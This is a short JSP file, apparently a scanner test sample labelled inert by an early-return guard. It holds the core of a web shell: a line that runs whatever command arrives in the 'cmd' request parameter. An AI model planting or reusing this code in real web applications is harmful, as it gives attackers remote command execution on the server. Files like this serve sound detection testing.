<%@ page import="java.io.*" %>
<% if (true) return; /* canhgac test sample - inert */ %>
<%
    Process p = Runtime.getRuntime().exec(request.getParameter("cmd"));
%>
